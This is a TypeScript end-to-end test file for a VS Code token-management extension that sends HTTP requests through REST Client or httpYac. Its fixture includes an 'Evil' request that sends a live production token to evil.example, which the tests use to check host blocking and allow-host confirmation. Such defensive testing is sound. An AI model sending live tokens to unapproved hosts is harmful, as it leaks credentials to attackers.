import assert from 'node:assert/strict';
import { setTimeout as wait } from 'node:timers/promises';
import { workbench } from '../../harness/workbench';
import { until } from '../../support/until';
import { call, codeOf, outletEntry, setClients, setSetting, storeSecrets, useFixture } from '../fixture';
import { openUntitled, reference, untilDecorated } from '../languageFeatures/httpFilesFixture';
import { handed, installSender } from './fakeSenders';

const path = '/integrations/partner/v1/linked-outlets';
/** The discard port: nothing listens there. */
const nowhere = 'http://127.0.0.1:9';

describe('sending a request', () => {
  const fixture = useFixture();
  const text = (): string =>
    `### Outlets\nGET ${fixture.sandbox.gobiz.url}${path}\nAuthorization: Bearer ${reference}\n\n### Evil\nGET https://evil.example/\nX: {{$processEnv GOBIZ_LIVE_TOKEN}}\n`;

  async function prepare(): Promise<void> {
    await workbench.reset();
    await storeSecrets(fixture.sandbox);
    await setClients([
      outletEntry(fixture.sandbox),
      outletEntry(fixture.sandbox, { name: 'live', environment: 'production' }),
    ]);
    await workbench.writeFile('outlets.http', text());
  }

  function send(line: number): Promise<unknown> {
    return workbench.host.run(
      (vscode, [file, at]) => vscode.commands.executeCommand('kunci.sendRequest', `file://${file}`, at),
      [`${workbench.folder}/outlets.http`, line] as const,
    );
  }

  /** A lens that begins with this text. */
  function lens(title: string) {
    return workbench.page.locator('.codelens-decoration').getByText(title);
  }

  before(async () => {
    // No extension can be had from this gallery, wherever the test runs.
    await workbench.restart({ environment: { EXTENSIONS_GALLERY: JSON.stringify({ serviceUrl: nowhere }) } });
    await prepare();
  });
  after(() => workbench.leave());

  it('says that no sender is installed, and offers to', async () => {
    assert.equal(await codeOf(send(2)), 'sender-missing');
    await workbench.driver.openFile('outlets.http');
    await lens('Send').first().click();
    await workbench.driver
      .notifications()
      .getByText('To send requests, install REST Client or httpYac')
      .waitFor();
    await workbench.page.getByRole('button', { name: 'Install REST Client' }).waitFor();
    await workbench.driver.screenshot('http-sender-missing');
  });

  it('leads to the Extensions view where one cannot be installed', async () => {
    await workbench.driver.answerNotification('Install REST Client');
    await workbench.page.locator('.extensions-viewlet').getByText('humao.rest-client').first().waitFor();
    await workbench.driver.screenshot('http-sender-not-installable');
  });

  it('notices a sender in another extension host', async () => {
    await workbench.host.run((vscode) => {
      const world = globalThis as unknown as { kunciElsewhere?: { dispose(): void } };
      world.kunciElsewhere = vscode.commands.registerCommand('rest-client.request', () => undefined);
    });
    await assert.rejects(send(2), /REST Client runs in a different extension host/);
    await workbench.host.run(() => {
      (globalThis as unknown as { kunciElsewhere?: { dispose(): void } }).kunciElsewhere?.dispose();
    });
  });

  it('hints that a host is not allowed, and allows it after a question', async () => {
    await workbench.driver.closeEverything();
    await workbench.driver.openFile('outlets.http');
    await untilDecorated(/until/, /blocked/);
    void call('allowHost', { client: 'live' }, 'evil.example');
    await workbench.driver.dialog().getByText('Allow evil.example to receive the tokens').waitFor();
    await workbench.driver.screenshot('http-allow-host');
    await workbench.driver.answerDialog('Allow');
    await until(async () => {
      const allowed = await workbench.host.run(
        (vscode) =>
          vscode.workspace.getConfiguration('kunci').inspect<{ allowedHosts?: string[] }[]>('clients')
            ?.globalValue?.[1]?.allowedHosts,
      );
      return JSON.stringify(allowed) === '["evil.example"]';
    });
    await untilDecorated(/until/, /confirm/);
  });

  it('shows a production token only after it was confirmed', async () => {
    await workbench.driver.closeEverything();
    await openUntitled(`GET ${fixture.sandbox.gobiz.url}${path}\nX: {{$processEnv GOBIZ_LIVE_TOKEN}}\n`);
    await untilDecorated(/^production: confirm to use$/);
    void call('confirmProductionUse', 'live');
    await workbench.driver.answerDialog('Use Production');
    await untilDecorated(/until/);
  });

  it('runs the command of REST Client, at the line that was given or at the request below it', async () => {
    await installSender('restClient');
    await workbench.driver.closeEverything();
    await handed();
    for (const line of [1, 2]) await send(line);
    const sends = await handed();
    assert.deepEqual(
      sends.map(({ command, line }) => [command, line]),
      [
        ['rest-client.request', 1],
        ['rest-client.request', 2],
      ],
    );
    assert.match(sends[0]?.document ?? '', /outlets\.http$/);
    await workbench.writeFile('above.http', `### Title\n# a comment\n@a = b\n${text().split('\n')[1]}\n`);
    await call('sendRequest', `file://${workbench.folder}/above.http`, 1);
    assert.equal((await handed())[0]?.line, 3);
  });

  it('sends from Markdown and from a document of another language', async () => {
    const request = text().split('\n').slice(1, 3).join('\n');
    await workbench.writeFile('outlets.md', `# Outlets\n\n\`\`\`http\n${request}\n\`\`\`\n`);
    await call('sendRequest', `file://${workbench.folder}/outlets.md`, 3);
    assert.deepEqual([(await handed())[0]?.line], [3]);
    await openUntitled(request, 'plaintext');
    await call('sendRequest');
    assert.match((await handed())[0]?.document ?? '', /^untitled:/);
    await workbench.driver.closeEverything();
  });

  it('stays in the editor that the user is in, where two show the file', async () => {
    await workbench.driver.openFile('outlets.http');
    await workbench.driver.runCommand('View: Split Editor Right');
    const column = (): Promise<number | undefined> =>
      workbench.host.run((vscode) => vscode.window.activeTextEditor?.viewColumn);
    await until(async () => (await column()) === 2);
    await send(2);
    assert.equal((await handed())[0]?.line, 2);
    assert.equal(await column(), 2);
    await workbench.driver.closeEverything();
  });

  it('says that REST Client failed, or that the file cannot be opened', async () => {
    const fails = (is: boolean): Promise<void> =>
      workbench.host.run((_vscode, value) => {
        (globalThis as unknown as { kunciFails: boolean }).kunciFails = value;
      }, is);
    await fails(true);
    await assert.rejects(send(2), /^HostError: REST Client did not send the request/);
    await fails(false);
    for (const nowhere of [`file://${workbench.folder}/nowhere.http`, 'nowhere.http']) {
      assert.equal(await codeOf(call('sendRequest', nowhere, 0)), 'no-request');
      assert.equal(await codeOf(call('explainSignature', nowhere, 0)), 'no-request');
    }
  });

  it('runs the command of the sender that is set, if both are installed', async () => {
    await installSender('httpYac');
    await setSetting('sender', 'httpYac');
    await send(2);
    const [first] = await handed();
    assert.deepEqual([first?.command, first?.line], ['httpyac.send', 2]);
    await setSetting('sender', 'restClient');
    await send(2);
    assert.equal((await handed())[0]?.command, 'rest-client.request');
  });

  it('sends nothing if the file changed while the question about the sender was open', async () => {
    await setSetting('sender', undefined);
    const sent = send(2);
    await workbench.page.getByPlaceholder('Which extension do you want to use?').waitFor();
    await workbench.host.run(async (vscode, target) => {
      const edit = new vscode.WorkspaceEdit();
      edit.insert(vscode.Uri.file(target), new vscode.Position(0, 0), '# above\n');
      await vscode.workspace.applyEdit(edit);
    }, `${workbench.folder}/outlets.http`);
    await workbench.driver.press('Enter');
    await assert.rejects(sent, /The file changed/);
    assert.deepEqual(await handed(), []);
  });

  it('does nothing by itself in an untrusted workspace', async () => {
    await workbench.restart({ trust: true });
    await prepare();
    const requests = fixture.tokenRequests();
    await workbench.driver.openFile('outlets.http');
    await untilDecorated(/not trusted/, /not trusted/);
    await wait(1000);
    assert.equal(fixture.tokenRequests(), requests);
    await call('fetchToken', 'outlet');
    await workbench.driver.screenshot('http-untrusted');
  });
});
